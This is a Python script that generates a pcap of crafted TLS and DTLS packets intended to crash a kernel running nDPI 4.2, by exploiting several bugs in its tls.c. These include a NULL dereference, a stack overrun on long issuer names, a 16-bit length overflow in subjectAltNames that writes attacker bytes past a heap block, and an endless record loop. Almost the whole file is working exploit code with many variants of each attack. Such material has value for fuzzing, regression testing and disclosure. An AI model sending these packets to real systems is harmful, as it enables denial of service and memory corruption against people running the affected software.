#!/usr/bin/python3 -I
# SPDX-License-Identifier: GPL-2.0-or-later
"""malice.py [KIND...]: packets that end a kernel in which nDPI 4.2 runs unconfined, as a pcap
on standard output.

All are mistakes of tls.c; each kind comes in many variants, as what is to be held is the
kind and not the case:

null      DTLS: a certificate whose subject is known is remembered under packet->tcp->source,
          and there is no packet->tcp
issuer    an issuer of more than 2048 octets: what snprintf() would have written is counted,
          and that many octets of the stack are made printable
names     the length of all subjectAltNames together has 16 bits: the block is made small,
          and the sender's octets are written some 65,500 behind it
block     a handshake message of 65532 octets has, with its header, no length in 16 bits: the
          loop over the messages of a record never gets on, or by an octet or two
wrap      the place in a certificate has 16 bits: a subjectAltName close to 65535 goes on at
          its begin
many      the plainest of "names" on many connections

On standard error: packets and octets.
"""
import os
import sys
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).resolve().parent))
import pcap  # noqa: E402
import tls  # noqa: E402
from frames import Tcp, Udp  # noqa: E402

JUMBO = 8000    # nDPI is shown 8192 octets of a packet
MANY = 100
RECORD_MAX = 65530


class Cases:
    """What hosts of the cases, each of which has its own, send: {client's address: name}, and
    [(that address, frames)]. BETWEEN adds frames of its own behind each case."""

    def __init__(self, number, between=None):
        self.number, self.between, self.names, self.parts = number, between, {}, []

    def interlude(self):
        if self.between and self.names:
            self.between(self.part(None), len(self.names))

    def part(self, client):
        self.parts.append((client, []))
        return self.parts[-1][1]

    def begin(self, name, v6):
        """Frames to be filled, the client's port, and hosts, of a new case."""
        self.interlude()
        n = len(self.names) + 1
        ends = tuple(bytes((10, 60 + self.number, n, side)) for side in (1, 2))
        if v6:
            ends = tuple(b"\x20\x01\x0d\xb8" + bytes(8) + e for e in ends)
        self.names[ends[0]] = name
        return self.part(ends[0]), 40000 + n, ends

    def tcp(self, name, server=443, v6=False):
        out, port, ends = self.begin(name, v6)
        return Tcp(out, port, server, ends)

    def udp(self, name, server=4433, v6=False):
        out, port, ends = self.begin(name, v6)
        return Udp(out, port, server, ends)

    def frames(self):
        return [frame for _, part in self.parts for frame in part]


# ---- DTLS --------------------------------------------------------------------

KNOWN = (("O", b"Cloudflare"),)


def dtls(*messages, version=0xfefd):
    """A record for each of [(kind, body)]."""
    return b"".join(tls.dtls_record(tls.dtls_message(kind, body, n), n, version=version)
                    for n, (kind, body) in enumerate(messages))


def null(c):
    client = (tls.HELLO, tls.client_hello(version=0xfefd, cookie=True))
    named = (tls.HELLO, tls.client_hello(b"dtls.example.test", version=0xfefd, cookie=True))
    server = (tls.SERVER_HELLO, tls.server_hello(version=0xfefd))

    def known(subject=KNOWN, **more):
        return tls.CERTIFICATE, tls.chain(tls.certificate(subject=subject, **more))

    for port in (1, 53, 443, 853, 3478, 4433, 5061, 5684, 40000, 65535):
        c.udp(f"port {port}", port).send(0, dtls(client, known()))
    c.udp("by the server").send(1, dtls(server, known()))
    c.udp("over IPv6", v6=True).send(0, dtls(client, known()))
    c.udp("an older version").send(0, dtls(client, known(), version=0xfeff))
    flow = c.udp("in two datagrams")
    flow.send(0, dtls(client))
    flow.send(1, dtls(server, known()))
    flow = c.udp("a record each")
    for side, part in ((0, client), (1, server), (1, known()), (1, known())):
        flow.send(side, dtls(part))
    c.udp("three certificates").send(0, dtls(client, known(), known(), known()))
    c.udp("many parts").send(0, dtls(client, known(KNOWN + (("OU", b"x"),) * 20)))
    c.udp("a long chain").send(1, dtls(server, (tls.CERTIFICATE, tls.chain(
        *(tls.certificate(subject=KNOWN) for _ in range(20))))))
    c.udp("with other names").send(0, dtls(named, known(names=[(tls.DNS, b"a.example")] * 9)))
    flow = c.udp("behind a change of the cipher")
    flow.send(0, dtls(client))
    flow.send(1, dtls(server, known()) + tls.dtls_record(b"\1", 9, 20))
    flow.send(1, dtls(server, known()))


# ---- issuer ------------------------------------------------------------------

def long_name(before, last, key="ST", octet=b"A"):
    """A name whose text has BEFORE octets and then one part more of LAST."""
    parts, size = [], 0
    between = len(key) + 1
    while size < before:
        room = before - size - between - (2 if size else 0)
        # what is left must have room for its own beginning
        n = 63 if room > 63 + between + 3 else room if room <= 63 else room - between - 3
        parts.append((key, octet * n))
        size += n + between + (2 if size > 0 else 0)
    assert size == before, (size, before)
    return parts + [(key, octet * last)]


def hello_and(der, sni=None):
    """The records of a handshake up to the certificate, of both sides."""
    return (tls.record(tls.message(tls.HELLO, tls.client_hello(sni))),
            tls.record(tls.message(tls.SERVER_HELLO, tls.server_hello()))
            + tls.record(tls.message(tls.CERTIFICATE, tls.chain(der))))


def handshake(flow, der, size=1400, sni=None):
    client, server = hello_and(der, sni)
    flow.send(0, client, size)
    flow.send(1, server, size)


def issuer(c):
    for before, last in ((1980, 57), (1980, 63), (2046, 0), (2046, 1), (2047, 0), (2047, 1),
                         (2047, 3), (2047, 30), (2047, 63)):
        handshake(c.tcp(f"{before} and {last}"), tls.certificate(long_name(before, last)))
    worst = tls.certificate(long_name(2047, 63))
    for key in ("CN", "C", "L", "O", "OU"):
        handshake(c.tcp(f"of {key}"), tls.certificate(long_name(2047, 63, key)))
    for port in (21, 25, 143, 465, 636, 853, 993, 995, 5061, 8443, 8883, 12345):
        handshake(c.tcp(f"port {port}", port), worst)
    handshake(c.tcp("over IPv6", v6=True), worst)
    handshake(c.tcp("one large segment"), worst, JUMBO)
    handshake(c.tcp("small segments"), worst, 260)
    handshake(c.tcp("another octet"), tls.certificate(long_name(2047, 63, octet=b"%")))
    handshake(c.tcp("subject, too"), tls.certificate(long_name(2047, 63), long_name(2047, 63)))
    client, server = hello_and(worst)
    c.tcp("client sends all").send(0, client + server)
    flow = c.tcp("twice")
    for _ in range(2):
        flow.send(0, client)
        flow.send(1, server)
    c.udp("DTLS").send(0, dtls((tls.HELLO, tls.client_hello(version=0xfefd, cookie=True)),
                               (tls.CERTIFICATE, tls.chain(worst))))
    for port, said in ((25, MAIL), (143, IMAP), (21, FTP)):
        flow = c.tcp(f"behind STARTTLS, port {port}", port)
        for side, line in said:
            flow.segment(side, line)
        handshake(flow, worst)


MAIL = ((1, b"220 mail.example.test ESMTP\r\n"), (0, b"EHLO a\r\n"),
        (1, b"250-mail.example.test\r\n250 STARTTLS\r\n"), (0, b"STARTTLS\r\n"),
        (1, b"220 go on\r\n"))
IMAP = ((1, b"* OK IMAP4 ready\r\n"), (0, b"a1 STARTTLS\r\n"), (1, b"a1 OK begin\r\n"))
FTP = ((1, b"220 FTP ready.\r\n"), (0, b"AUTH TLS\r\n"), (1, b"234 go on\r\n"))


# ---- names -------------------------------------------------------------------

def v4_names(count):
    """Each six octets, which come to fifteen of text and a comma."""
    return [(tls.ADDRESS, bytes((200 + n % 50, 200 + n // 50 % 50, 200, 200)))
            for n in range(count)]


def v6_names(count):
    """Each eighteen octets, which come to forty."""
    return [(tls.ADDRESS, b"\x20\x11" * 7 + n.to_bytes(2, "big"))
            for n in range(0x1000, 0x1000 + count)]


def one_record(names):
    """One record with ClientHello and certificate: all is read when its last octet comes."""
    return tls.record(tls.message(tls.HELLO, tls.client_hello()),
                      tls.message(tls.CERTIFICATE, tls.chain(tls.certificate(names=names))))


def written(n):
    """A last name, which is what lands behind the block."""
    return [(tls.DNS, b"Z" * n)]


def names(c):
    for count in (4095, 4096, 4097, 4150):
        c.tcp(f"{count} in one record").send(0, one_record(v4_names(count)))
        handshake(c.tcp(f"{count} of the server"), tls.certificate(names=v4_names(count)), JUMBO)
    # 4095 come to 65519 octets: the next one ends around the last that 16 bits have
    for n in (14, 15, 16, 17, 100, 254, 255):
        c.tcp(f"then one of {n}").send(0, one_record(v4_names(4095) + written(n)))
    for n in (1, 200, 255):
        c.tcp(f"behind it {n}").send(0, one_record(v4_names(4150) + written(n)))
    c.tcp("each of another length").send(0, one_record(
        v4_names(3900) + [(tls.DNS, b"n" * n) for n in range(1, 120)] + v4_names(50)))
    c.tcp("IPv6 addresses").send(0, one_record(v6_names(1700)))
    c.tcp("twice around").send(0, one_record(v4_names(8300)), JUMBO)
    c.tcp("as many as fit").send(0, one_record(v4_names(10800)), JUMBO)
    c.tcp("over IPv6", v6=True).send(0, one_record(v4_names(4150) + written(200)))
    c.tcp("mail", 465).send(0, one_record(v4_names(4150) + written(200)))
    c.tcp("any port", 12345).send(0, one_record(v4_names(4150) + written(200)))
    handshake(c.tcp("another host asked for"), tls.certificate(names=v4_names(4200)), JUMBO,
              b"x.example.test")
    c.tcp("what is no text").send(
        0, one_record(v4_names(4150) + [(tls.EMAIL, b"\xff\x90\x80" * 60)]))


def many(c):
    for n in range(MANY):
        c.tcp(f"number {n}").send(0, one_record(v4_names(4150) + written(200)))


# ---- block -------------------------------------------------------------------

def block(c):
    hello = tls.record(tls.message(tls.HELLO, tls.client_hello()))

    def big(claim, kind, octets=RECORD_MAX, before=b""):
        """A record of OCTETS with a message that claims CLAIM, and 100 octets more."""
        body = before + bytes((kind,)) + claim.to_bytes(3, "big")
        return tls.record(body + bytes(octets - len(body))) + bytes(100)

    for claim in (65530, 65531, 65532, 65533, 65534, 65535):
        c.tcp(f"claims {claim}").send(0, hello + big(claim, 5), JUMBO)
    for kind in (0, tls.HELLO, tls.SERVER_HELLO, tls.CERTIFICATE, 16, 255):
        c.tcp(f"kind {kind}").send(0, hello + big(65532, kind), JUMBO)
    for octets in (65527, 65528, 65529, 65531, 65532, 65534, 65535):
        c.tcp(f"record of {octets}").send(0, hello + big(65532, 5, octets), JUMBO)
    c.tcp("first of all").send(0, big(65532, 5), JUMBO)
    flow = c.tcp("by the server")
    flow.send(0, hello)
    flow.send(1, tls.record(tls.message(tls.SERVER_HELLO, tls.server_hello())), JUMBO)
    flow.send(1, big(65532, 5), JUMBO)
    c.tcp("behind another message").send(
        0, hello + big(65532, 5, before=tls.message(tls.KEYS, bytes(100))), JUMBO)
    named = tls.message(tls.HELLO, tls.client_hello(b"a.example"))
    c.tcp("a ClientHello in it").send(0, big(65532, tls.HELLO, before=named), JUMBO)
    c.tcp("over IPv6", v6=True).send(0, hello + big(65532, 5), JUMBO)
    c.tcp("mail", 465).send(0, hello + big(65532, 5), JUMBO)
    c.tcp("any port", 12345).send(0, hello + big(65532, 5), JUMBO)
    c.tcp("the largest packets").send(0, hello + big(65532, 5), 8152)
    c.tcp("smaller ones").send(0, hello + big(65532, 5), 2200)


def wrap(c):
    """A Certificate message that fills its record, with a subjectAltName close to its end."""
    hello = tls.record(tls.message(tls.HELLO, tls.client_hello()))
    size = RECORD_MAX - 4 - 3 - 3
    for back, octets in ((20, b"\x04\xff"), (8, b"\x04\xff"), (20, b"\x04\x00\x30\xff"),
                         (5, b"\x05"), (3, b""), (130, b"\x04\xfe"), (127, b"\x04\xff"),
                         (40, b"\x04\x00\x30\x00\x82\xff")):
        der = bytearray(size)
        pattern = b"\x55\x1d\x11" + octets
        der[size - back:size - back + len(pattern)] = pattern
        data = hello + tls.record(tls.message(tls.CERTIFICATE, tls.chain(bytes(der[:size]))))
        c.tcp(f"{back} before the end: {octets.hex()}").send(0, data, JUMBO)


KINDS = {"null": null, "issuer": issuer, "names": names, "block": block, "wrap": wrap, "many": many}


def cases(kind, between=None):
    """The cases of a kind."""
    made = Cases(list(KINDS).index(kind), between)
    KINDS[kind](made)
    made.interlude()
    return made


def main():
    packets = octets = 0
    with os.fdopen(1, "wb") as out:
        out.write(pcap.header())
        for kind in sys.argv[1:] or KINDS:
            for frame in cases(kind).frames():
                packets, octets = packets + 1, octets + len(frame)
                out.write(pcap.record(1_600_000_000 * 10**9 + packets * 100_000, frame, len(frame)))
    print(packets, octets, file=sys.stderr)


if __name__ == "__main__":
    main()
